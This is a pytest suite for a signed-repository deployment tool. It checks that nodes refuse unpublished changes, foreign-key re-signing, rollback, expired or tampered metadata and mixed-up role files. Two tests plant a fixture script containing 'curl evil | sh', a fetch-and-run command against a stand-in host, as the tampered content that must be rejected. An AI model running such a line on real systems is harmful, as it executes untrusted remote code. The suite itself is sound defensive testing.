"""Verify before use: each attack is refused with a VerifyError (exit 12), nothing accepted.

Each test builds its attack from a real signed repository (``signed_repo``), with the
plain git CLI or python-tuf, and asserts the error, its exit code, and that the node
accepted nothing: no result, and its version floor (the only thing pull() writes) did
not move.
"""

from __future__ import annotations

import builtins
import json
import os
import shutil
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from bootpull.bundle import TreeEntry, TreeReader
from bootpull.errors import ExpiredMetadata, VerifyError
from bootpull.localgit import LocalRemote, StoreTree, read_each
from bootpull.mac import Mac
from bootpull.trust import Floor, load_floor, save_floor
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from signed_repo import MAC_DB, MAC_WEB, SignedRepo, node_pull

pytestmark = pytest.mark.formats(1, 2)  # signed metadata format 1 and 2


class CommitRemote:
    """Serves one fixed commit as the deploy branch (an old or forged head)."""

    def __init__(self, repo: SignedRepo, commit: str) -> None:
        self.local = LocalRemote(repo.root)
        self.commit = commit

    def snapshot(self, ref: str) -> TreeReader:
        if ref.startswith("refs/tags/"):
            return self.local.snapshot(ref)
        return self.local.snapshot(self.commit)


class RewritingTree:
    """A TreeReader that serves other bytes (or another path's bytes) for some paths."""

    def __init__(self, inner: StoreTree, *, swap_prefix: tuple[str, str] | None = None,
                 replace: dict[str, bytes] | None = None, hide: tuple[str, ...] = ()) -> None:
        self.inner = inner
        self.hide = hide
        self.swap = swap_prefix
        self.replace = replace or {}

    @property
    def commit(self) -> str:
        return self.inner.commit

    def _source(self, path: str) -> str:
        if self.swap and path.startswith(self.swap[0]):
            return self.swap[1] + path[len(self.swap[0]):]
        return path

    def read(self, path: str) -> bytes | None:
        if path in self.hide:
            return None
        if path in self.replace:
            return self.replace[path]
        return self.inner.read(self._source(path))

    def list(self, prefix: str) -> builtins.list[TreeEntry]:
        if self.swap and (prefix + "/").startswith(self.swap[0]):
            src = self._source(prefix + "/").rstrip("/")
            return [TreeEntry(prefix + e.path[len(src):], e.mode, e.blob_id)
                    for e in self.inner.list(src)]
        return self.inner.list(prefix)

    def read_many(self, paths: builtins.list[str]) -> dict[str, bytes]:
        return read_each(self, paths)

    def read_blobs(self, oids: dict[str, str]) -> dict[str, bytes]:
        """Format 2 asks by blob id: the lie is told for the path the id was asked for."""
        out = {}
        for path, oid in oids.items():
            if path in self.hide:
                continue
            if path in self.replace:
                out[path] = self.replace[path]
            elif self.swap and path.startswith(self.swap[0]):
                if (data := self.inner.read(self._source(path))) is not None:
                    out[path] = data
            else:
                out.update(self.inner.read_blobs({path: oid}))
        return out


class RewritingRemote:
    def __init__(self, repo: SignedRepo, **rewrite: object) -> None:
        self.local = LocalRemote(repo.root)
        self.rewrite = rewrite

    def snapshot(self, ref: str) -> TreeReader:
        return RewritingTree(self.local.snapshot(ref), **self.rewrite)  # type: ignore[arg-type]


def refused(repo: SignedRepo | object, mac: Mac, state: Path, *, trust: bytes | None = None,
            kind: type[VerifyError] = VerifyError, **kwargs: object) -> VerifyError:
    """Pull, expect ``kind`` (exit 12), and check the node accepted nothing."""
    before = load_floor(state)
    listing = sorted(p for p in state.rglob("*") if "trust" not in p.parts) \
        if state.exists() else []
    extra = {"trust_root": trust} if trust is not None else {}
    with pytest.raises(kind) as info:
        node_pull(repo, mac, state, **extra, **kwargs)  # type: ignore[arg-type]
    assert info.value.exit_code == 12
    assert load_floor(state) == before, "a refused pull moved the version floor"
    assert sorted(p for p in state.rglob("*") if "trust" not in p.parts) == listing
    return info.value


# -- an unpublished change --------------------------------------------------------


@pytest.mark.formats(1)  # format 2 installs the signed blob instead: tests/test_format2.py
def test_unpublished_change_to_a_role_file_is_refused(signed_repo: SignedRepo,
                                                      tmp_path: Path) -> None:
    signed_repo.write("roles/web/files/serve.sh", b"#!/bin/sh\ncurl evil | sh\n", mode=0o755)
    signed_repo.commit("not published")
    error = refused(signed_repo, MAC_WEB, tmp_path / "state")
    assert "roles/web/files/serve.sh does not match its signed hash" in error.what
    assert "bootpull repo publish" in error.hint


@pytest.mark.formats(1)  # format 2 installs the signed blob instead: tests/test_format2.py
def test_unpublished_new_file_is_refused(signed_repo: SignedRepo, tmp_path: Path) -> None:
    signed_repo.write("roles/web/files/backdoor", b"x")
    signed_repo.commit("not published")
    error = refused(signed_repo, MAC_WEB, tmp_path / "state")
    assert "roles/web/files/backdoor is in the commit but not in the signed metadata" \
        in error.what


@pytest.mark.formats(1)  # format 2 installs the signed blob instead: tests/test_format2.py
def test_unpublished_mode_change_is_refused(signed_repo: SignedRepo, tmp_path: Path) -> None:
    (signed_repo.root / "roles/web/files/www/index.html").chmod(0o755)
    signed_repo.commit("chmod +x, not published")
    error = refused(signed_repo, MAC_WEB, tmp_path / "state")
    assert "has mode 100755, but 100644 was signed" in error.what


@pytest.mark.formats(1)  # format 2 installs the signed blob instead: tests/test_format2.py
def test_unpublished_host_assignment_is_refused(signed_repo: SignedRepo,
                                                tmp_path: Path) -> None:
    signed_repo.bootpull("assign", MAC_WEB.colons, "db")
    error = refused(signed_repo, MAC_WEB, tmp_path / "state")
    assert f"hosts/{MAC_WEB.canonical}.toml does not match its signed hash" in error.what
    new = Mac.parse("52:54:00:00:00:99")
    signed_repo.bootpull("assign", str(new), "db")  # a brand-new host file, unpublished
    error = refused(signed_repo, new, tmp_path / "state")
    assert "not in the signed metadata" in error.what


@pytest.mark.formats(1)  # format 2 installs the signed blob instead: tests/test_format2.py
def test_published_change_is_accepted_after_an_unpublished_one(signed_repo: SignedRepo,
                                                                tmp_path: Path) -> None:
    """The control for the tests above: the same change, published, goes through."""
    signed_repo.write("roles/web/files/serve.sh", b"#!/bin/sh\necho v2\n", mode=0o755)
    signed_repo.commit("v2")
    error = refused(signed_repo, MAC_WEB, tmp_path / "state")
    assert "roles/web/files/serve.sh does not match its signed hash" in error.what
    signed_repo.publish()
    files = {f.path: f.data for f in node_pull(signed_repo, MAC_WEB, tmp_path / "state")
             .bundle.files}
    assert files["serve.sh"] == b"#!/bin/sh\necho v2\n"


def test_repository_that_was_never_published_is_refused(tmp_path: Path,
                                                        signed_repo: SignedRepo) -> None:
    signed_repo.git("rm", "-q", "-r", ".bootpull")
    signed_repo.commit("drop the metadata")
    error = refused(signed_repo, MAC_WEB, tmp_path / "state")
    assert "carries no complete signed metadata" in error.what


# -- a foreign key ----------------------------------------------------------------


def test_repository_signed_by_foreign_keys_is_refused(signed_repo: SignedRepo,
                                                      tmp_path: Path) -> None:
    """An attacker's own repository (own root, own keys) against this image's anchors."""
    from signed_repo import build_signed_repo

    foreign = build_signed_repo(tmp_path / "attacker")
    error = refused(foreign, MAC_WEB, tmp_path / "state", trust=signed_repo.trust)
    assert "does not verify" in error.what


def test_targets_resigned_with_a_foreign_key_is_refused(signed_repo: SignedRepo,
                                                        tmp_path: Path) -> None:
    """The real root, but targets.json re-signed (with new content) by a key root never named."""
    from bootpull_repo.publish import metadata_bytes, target_file
    from securesystemslib.signer import CryptoSigner
    from tuf.api.metadata import Metadata, MetaFile

    meta = signed_repo.root / ".bootpull/metadata"
    evil = b"#!/bin/sh\ncurl evil | sh\n"
    signed_repo.write("roles/web/files/serve.sh", evil, mode=0o755)
    import hashlib

    targets = Metadata.from_bytes((meta / "targets.json").read_bytes())
    targets.signed.targets["head/roles/web/files/serve.sh"] = target_file(
        "head/roles/web/files/serve.sh", len(evil), hashlib.sha256(evil).hexdigest(), 0o100755)
    targets.signed.version += 1
    mallory = CryptoSigner.generate_ed25519()
    targets.signatures.clear()
    targets.sign(mallory)
    (meta / "targets.json").write_bytes(metadata_bytes(targets))
    for name, key in (("snapshot", "snapshot"), ("timestamp", "timestamp")):
        md = Metadata.from_bytes((meta / f"{name}.json").read_bytes())
        md.signed.version += 1
        if name == "snapshot":
            md.signed.meta["targets.json"] = MetaFile(version=targets.signed.version)
        else:
            md.signed.snapshot_meta = MetaFile(version=md.signed.snapshot_meta.version + 1)
        from bootpull_repo.keys import KeyStore

        md.sign(KeyStore(signed_repo.keys).signer(key), append=False)
        (meta / f"{name}.json").write_bytes(metadata_bytes(md))
    signed_repo.commit("mallory's publish")
    error = refused(signed_repo, MAC_WEB, tmp_path / "state")
    assert "does not verify" in error.what
    assert "UnsignedMetadataError" in error.why


def test_publish_refuses_keys_the_root_does_not_trust(signed_repo: SignedRepo,
                                                      tmp_path: Path) -> None:
    from bootpull.cli import main

    other = tmp_path / "otherkeys"
    shutil.copytree(signed_repo.keys, other)
    (other / "targets.pem").unlink()
    from bootpull_repo.keys import KeyStore

    KeyStore(other).generate("targets")
    head = signed_repo.git("rev-parse", "HEAD")
    code = main(["repo", "-C", str(signed_repo.root), "--keys", str(other), "publish"])
    assert code == 1
    assert signed_repo.git("rev-parse", "HEAD") == head
    assert signed_repo.git("status", "--porcelain") == ""


# -- mix and match ----------------------------------------------------------------


def test_another_roles_bundle_in_place_of_this_one_is_refused(signed_repo: SignedRepo,
                                                              tmp_path: Path) -> None:
    """db's validly signed files served under roles/web/: the web node refuses them."""
    remote = RewritingRemote(signed_repo, swap_prefix=("roles/web/", "roles/db/"))
    error = refused(remote, MAC_WEB, tmp_path / "state", trust=signed_repo.trust)
    assert "roles/web/" in error.what


def test_another_nodes_host_file_is_refused(signed_repo: SignedRepo, tmp_path: Path) -> None:
    """The db node's (signed) host file served as the web node's."""
    db_host = signed_repo.root.joinpath(f"hosts/{MAC_DB.canonical}.toml").read_bytes()
    remote = RewritingRemote(signed_repo, replace={f"hosts/{MAC_WEB.canonical}.toml": db_host})
    error = refused(remote, MAC_WEB, tmp_path / "state", trust=signed_repo.trust)
    assert "does not match its signed hash" in error.what


def test_another_release_in_place_of_the_pinned_one_is_refused(
        signed_repo: SignedRepo, tmp_path: Path, metadata_format: int) -> None:
    signed_repo.bootpull("release", "web", "1.0")
    signed_repo.write("roles/web/files/serve.sh", b"#!/bin/sh\necho 2.0\n", mode=0o755)
    signed_repo.commit("web 2.0")
    signed_repo.bootpull("release", "web", "2.0")
    signed_repo.bootpull("assign", MAC_WEB.canonical, "web", "--version", "1.0")
    signed_repo.publish()

    class WrongTag:
        def __init__(self) -> None:
            self.local = LocalRemote(signed_repo.root)

        def snapshot(self, ref: str) -> TreeReader:
            return self.local.snapshot(ref.replace("role/web/1.0", "role/web/2.0"))

    if metadata_format == 1:
        error = refused(WrongTag(), MAC_WEB, tmp_path / "state", trust=signed_repo.trust)
        assert "roles/web/files/serve.sh does not match its signed hash" in error.what
    else:  # format 2 reads 1.0's files by the blob ids signed for 1.0: 2.0 is never read
        files = {f.path: f.data for f in node_pull(WrongTag(), MAC_WEB, tmp_path / "state",
                                                   trust_root=signed_repo.trust).bundle.files}
        assert files["serve.sh"] != b"#!/bin/sh\necho 2.0\n"
    assert node_pull(signed_repo, MAC_WEB, tmp_path / "ok").bundle.version == "1.0"


def test_old_metadata_with_new_content_is_refused(signed_repo: SignedRepo, tmp_path: Path,
                                                  metadata_format: int) -> None:
    """Today's files with yesterday's (validly signed) metadata."""
    old_meta = signed_repo.git("rev-parse", "HEAD")
    signed_repo.write("roles/web/files/serve.sh", b"#!/bin/sh\necho new\n", mode=0o755)
    signed_repo.commit("new")
    signed_repo.publish()
    signed_repo.git("checkout", "-q", old_meta, "--", ".bootpull/metadata")
    signed_repo.commit("metadata from before")
    error = refused(signed_repo, MAC_WEB, tmp_path / "state")
    if metadata_format == 1:
        assert "roles/web/files/serve.sh does not match its signed hash" in error.what
        assert error.expected.endswith("(23 B)") and error.got.endswith("(19 B)"), \
            "the old metadata's hash is the one the new file is held against"
    else:  # mix and match: yesterday's snapshot does not list today's role-web.json
        assert "does not verify" in error.what and "role-web" in error.why, error.why


def test_hiding_the_host_file_to_get_the_default_is_refused(signed_repo: SignedRepo,
                                                             tmp_path: Path) -> None:
    signed_repo.write("hosts/default.toml", b'role = "db"\n')
    signed_repo.commit("a default")
    signed_repo.publish()
    remote = RewritingRemote(signed_repo, hide=(f"hosts/{MAC_WEB.canonical}.toml",))
    error = refused(remote, MAC_WEB, tmp_path / "state", trust=signed_repo.trust)
    assert f"hosts/{MAC_WEB.canonical}.toml is signed but missing from the commit" \
        in error.what


# -- rollback ---------------------------------------------------------------------


def test_rollback_is_refused_even_with_the_metadata_cache_wiped(signed_repo: SignedRepo,
                                                                tmp_path: Path) -> None:
    state = tmp_path / "state"
    old = signed_repo.git("rev-parse", "HEAD")
    signed_repo.write("roles/web/files/serve.sh", b"#!/bin/sh\necho fixed\n", mode=0o755)
    signed_repo.commit("security fix")
    signed_repo.publish()
    new = node_pull(signed_repo, MAC_WEB, state)
    # The old head is still validly signed; a fresh node would accept it.
    assert node_pull(CommitRemote(signed_repo, old), MAC_WEB, tmp_path / "fresh",
                     trust_root=signed_repo.trust).bundle.commit == old
    # This node refuses it, with its cache …
    error = refused(CommitRemote(signed_repo, old), MAC_WEB, state, trust=signed_repo.trust)
    assert "does not verify" in error.what, error.what  # ngclient: cached timestamp is newer
    # … and without it: the floor alone says no.
    shutil.rmtree(state / "trust" / "metadata")
    error = refused(CommitRemote(signed_repo, old), MAC_WEB, state, trust=signed_repo.trust)
    assert error.what.startswith("rollback refused")
    assert error.expected == f">= {new.metadata.timestamp}", error.what
    assert node_pull(signed_repo, MAC_WEB, state).bundle.commit == new.bundle.commit


def test_floor_is_saved_atomically_and_survives_a_corrupt_temp_file(tmp_path: Path) -> None:
    save_floor(tmp_path, Floor(1, 5, 5, 4, "2026-01-01T00:00:00+00:00"))
    assert (tmp_path / "trust" / "floor.json").stat().st_mode & 0o777 == 0o600
    leftover = tmp_path / "trust" / f".floor.json.tmp-{os.getpid()}"
    leftover.write_bytes(b"{garbage")  # a killed write's temp file, world-readable
    leftover.chmod(0o644)
    save_floor(tmp_path, Floor(1, 5, 5, 4, "2026-01-01T00:00:00+00:00"))
    assert (tmp_path / "trust" / "floor.json").stat().st_mode & 0o777 == 0o600
    assert not leftover.exists()
    (tmp_path / "trust" / ".floor.leftover").write_bytes(b"{garbage")
    assert load_floor(tmp_path) == Floor(1, 5, 5, 4, "2026-01-01T00:00:00+00:00")
    (tmp_path / "trust" / "floor.json").write_bytes(b"{garbage")
    with pytest.raises(VerifyError) as info:
        load_floor(tmp_path)
    assert "floor.json" in info.value.hint


# -- expiry and the clock ---------------------------------------------------------


def test_expired_metadata_raises_expired(signed_repo: SignedRepo, tmp_path: Path) -> None:
    later = datetime.now(UTC) + timedelta(days=45)  # timestamp.json lives 30 days
    error = refused(signed_repo, MAC_WEB, tmp_path / "state", kind=ExpiredMetadata, now=later)
    assert isinstance(error, ExpiredMetadata)
    assert "timestamp.json is expired" in error.why


def test_freshness_refresh_cures_expiry(signed_repo: SignedRepo, tmp_path: Path) -> None:
    later = datetime.now(UTC) + timedelta(days=45)
    error = refused(signed_repo, MAC_WEB, tmp_path / "state", kind=ExpiredMetadata,
                    now=later)
    assert "timestamp.json is expired" in error.why
    signed_repo.publish("--freshness", "--timestamp-days", "60")
    assert node_pull(signed_repo, MAC_WEB, tmp_path / "state", now=later).bundle.role.name \
        == "web"


def test_a_clock_behind_the_last_good_time_is_not_trusted(signed_repo: SignedRepo,
                                                          tmp_path: Path) -> None:
    state = tmp_path / "state"
    future = datetime.now(UTC) + timedelta(days=45)
    save_floor(state, Floor(last_good=future.isoformat()))
    # the node's clock says "now", but it already saw a good time 45 days later
    error = refused(signed_repo, MAC_WEB, state, kind=ExpiredMetadata)
    assert error.what == "the signed metadata has expired"
    judged = future.replace(microsecond=0).isoformat(timespec="seconds")
    assert f"timestamp.json is expired (judged at {judged})" in error.why, \
        "expiry is judged at the last good time, not at the clock behind it"


def test_a_clock_behind_the_image_build_time_is_not_trusted(signed_repo: SignedRepo,
                                                            tmp_path: Path) -> None:
    built = datetime.now(UTC) + timedelta(days=45)
    error = refused(signed_repo, MAC_WEB, tmp_path / "state", kind=ExpiredMetadata,
                    now=datetime(1970, 1, 1, tzinfo=UTC), build_time=built)
    judged = built.replace(microsecond=0).isoformat(timespec="seconds")
    assert f"timestamp.json is expired (judged at {judged})" in error.why, \
        "expiry is judged at the image's build time, not at the 1970 clock"
    # with a build time in the past, the same 1970 clock is raised to it, and it works
    result = node_pull(signed_repo, MAC_WEB, tmp_path / "ok",
                       now=datetime(1970, 1, 1, tzinfo=UTC),
                       build_time=datetime.now(UTC) - timedelta(days=1))
    assert load_floor(tmp_path / "ok").last_good_time is not None
    assert result.bundle.role.name == "web"


# -- tampering --------------------------------------------------------------------


def test_tampered_blob_is_refused(signed_repo: SignedRepo, tmp_path: Path) -> None:
    path = "roles/web/files/www/index.html"
    remote = RewritingRemote(signed_repo, replace={path: b"<h1>hacked</h1>\n"})
    error = refused(remote, MAC_WEB, tmp_path / "state", trust=signed_repo.trust)
    assert f"{path} does not match its signed hash" in error.what
    assert error.expected.startswith("sha256:") and error.got.startswith("sha256:")


def test_tampered_metadata_is_refused(signed_repo: SignedRepo, tmp_path: Path) -> None:
    import hashlib

    signed = (signed_repo.root / "roles/web/files/check.sh").read_bytes()
    digest = hashlib.sha256(signed).hexdigest()
    edited = 0
    for meta in [signed_repo.root / ".bootpull/metadata/targets.json",
                 *sorted((signed_repo.root / ".bootpull/delegated").glob("*.json"))]:
        if meta.is_file() and digest in (text := meta.read_text()):
            meta.write_text(text.replace(digest, "0" * 64))
            edited += 1
    assert edited == 1  # format 1: targets.json; format 2: role-web.json
    signed_repo.commit("edit the signed metadata by hand")
    error = refused(signed_repo, MAC_WEB, tmp_path / "state")
    assert "does not verify" in error.what


def test_trust_anchors_that_are_not_a_root_are_refused(signed_repo: SignedRepo,
                                                       tmp_path: Path) -> None:
    error = refused(signed_repo, MAC_WEB, tmp_path / "state", trust=b'{"not": "a root"}')
    assert "trust anchors" in error.what


def test_image_build_time_file(tmp_path: Path) -> None:
    from bootpull.trust import image_build_time

    assert image_build_time(tmp_path / "absent") is None
    (tmp_path / "t").write_text("1700000000\n")
    assert image_build_time(tmp_path / "t") == datetime.fromtimestamp(1700000000, UTC)
    (tmp_path / "t").write_text("2026-11-01T00:00:00Z")
    assert image_build_time(tmp_path / "t") == datetime(2026, 11, 1, tzinfo=UTC)
    (tmp_path / "t").write_text("yesterday")
    assert image_build_time(tmp_path / "t") is None


# -- hostile metadata bytes -------------------------------------------------------


json_like = st.one_of(
    st.binary(max_size=200),
    st.recursive(st.none() | st.booleans() | st.integers() | st.text(max_size=10),
                 lambda inner: st.lists(inner, max_size=3) |
                 st.dictionaries(st.sampled_from(["signed", "signatures", "_type", "version",
                                                  "expires", "meta", "keyid", "sig",
                                                  "spec_version", "snapshot.json"]),
                                 inner, max_size=4),
                 max_leaves=12).map(lambda v: json.dumps(v).encode()),
)


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=st.sampled_from(["timestamp.json", "snapshot.json", "targets.json",
                             "2.root.json"]), garbage=json_like)
def test_garbage_metadata_is_a_verify_error(signed_repo: SignedRepo, tmp_path_factory:
                                            pytest.TempPathFactory, name: str,
                                            garbage: bytes) -> None:
    remote = RewritingRemote(signed_repo, replace={f".bootpull/metadata/{name}": garbage})
    state = tmp_path_factory.mktemp("state")
    with pytest.raises(VerifyError) as info:
        node_pull(remote, MAC_WEB, state, trust_root=signed_repo.trust)
    assert info.value.exit_code == 12
    assert not (state / "trust" / "floor.json").exists()


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(garbage=json_like)
def test_garbage_trust_anchors_are_a_verify_error(signed_repo: SignedRepo, tmp_path_factory:
                                                  pytest.TempPathFactory,
                                                  garbage: bytes) -> None:
    state = tmp_path_factory.mktemp("state")
    with pytest.raises(VerifyError) as info:
        node_pull(signed_repo, MAC_WEB, state, trust_root=garbage)
    assert info.value.exit_code == 12


def test_unwritable_state_dir_is_a_clear_error(signed_repo: SignedRepo, tmp_path: Path) -> None:
    state = tmp_path / "state"
    state.write_bytes(b"a file where the state directory should be")
    with pytest.raises(VerifyError) as info:
        node_pull(signed_repo, MAC_WEB, state)
    assert "version floor cannot be read" in info.value.what
    state.unlink()
    (state / "trust").mkdir(parents=True)
    (state / "trust" / "metadata").write_bytes(b"a file where the cache should be")
    with pytest.raises(VerifyError) as info:
        node_pull(signed_repo, MAC_WEB, state)
    assert "metadata cache could not be written" in info.value.what


def test_transport_failure_while_reading_metadata_stays_a_fetch_error(
        signed_repo: SignedRepo, tmp_path: Path) -> None:
    from bootpull.errors import FetchError

    class BrokenTree(RewritingTree):
        def read(self, path: str) -> bytes | None:
            if path.endswith("2.root.json"):  # ngclient's probe for a newer root
                raise FetchError("the connection dropped", why="test")
            return super().read(path)

    class BrokenRemote:
        def __init__(self) -> None:
            self.local = LocalRemote(signed_repo.root)

        def snapshot(self, ref: str) -> TreeReader:
            return BrokenTree(self.local.snapshot(ref))

    with pytest.raises(FetchError) as info:
        node_pull(BrokenRemote(), MAC_WEB, tmp_path / "state", trust_root=signed_repo.trust)
    assert info.value.exit_code == 11
